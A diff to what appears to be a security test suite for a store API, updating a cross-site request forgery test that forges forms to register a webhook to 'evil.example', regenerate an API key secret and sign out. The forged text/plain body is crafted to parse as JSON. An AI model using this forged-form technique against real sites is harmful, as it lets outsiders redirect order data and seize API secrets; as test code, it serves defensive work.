@@ -98,7 +98,7 @@ function attackPage(target: string, keyId: string, webhookId: string): string {
       ]))
       // text/plain sends "name=value": this name and value make the body valid JSON.
       await submit('create a webhook (text/plain form)', form(store + '/webhooks', 'text/plain', [
-        ['{"event":"order.created","url":"https://evil.example/?x', '"}'],
+        ['{"events":["order.created"],"url":"https://evil.example/?x', '"}'],
       ]))
       await submit('regenerate the key secret (urlencoded form)', form(store + '/api-keys/${keyId}/regenerate-secret', 'application/x-www-form-urlencoded', []))
       await send('sign out (no body)', '/auth/logout', { method: 'POST' })
@@ -133,7 +133,7 @@ beforeAll(async () => {
   hook = (
     await admin<CreatedWebhook>('POST', '/stores/demo/webhooks', {
       url: `http://127.0.0.1:${attackerPort}/receiver`,
-      event: 'order.created',
+      events: ['order.created'],
     })
   ).body
   expect(key.id).toMatch(/^key_/)
